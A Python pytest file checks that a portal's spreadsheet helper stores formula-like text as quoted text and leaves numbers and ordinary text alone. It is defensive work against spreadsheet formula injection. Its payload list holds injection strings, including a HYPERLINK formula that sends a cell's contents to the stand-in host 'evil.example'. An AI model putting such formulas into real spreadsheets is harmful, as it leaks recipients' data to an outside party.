"""portal.lib.spreadsheet: text that Excel would run as a formula is stored as text."""

from __future__ import annotations

import io

import openpyxl.xml
import pytest
from openpyxl import Workbook, load_workbook

from portal.lib.spreadsheet import sheet_append_row

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+84912000001", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]


def _round_trip(values):
    workbook = Workbook()
    sheet = workbook.active
    sheet_append_row(sheet, ["Tiêu đề"])
    sheet_append_row(sheet, values)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue())).active


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_like_text_is_stored_as_text(payload):
    sheet = _round_trip([payload])

    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s"
    # openpyxl's own XML reader turns a carriage return into a line feed, lxml's (used when lxml is
    # installed, as pyHanko requires) keeps it; either way the text is otherwise what was typed.
    assert cell.value == (payload if openpyxl.xml.LXML else payload.replace("\r", "\n"))
    assert cell.quotePrefix


def test_numbers_and_plain_text_are_left_alone():
    sheet = _round_trip([1, -5, "Nguyễn Văn A", None, "a=b"])

    assert [cell.value for cell in sheet[2]][:3] == [1, -5, "Nguyễn Văn A"]
    assert sheet.cell(row=2, column=2).data_type == "n"
    assert not sheet.cell(row=2, column=3).quotePrefix
    assert sheet.cell(row=2, column=5).value == "a=b"
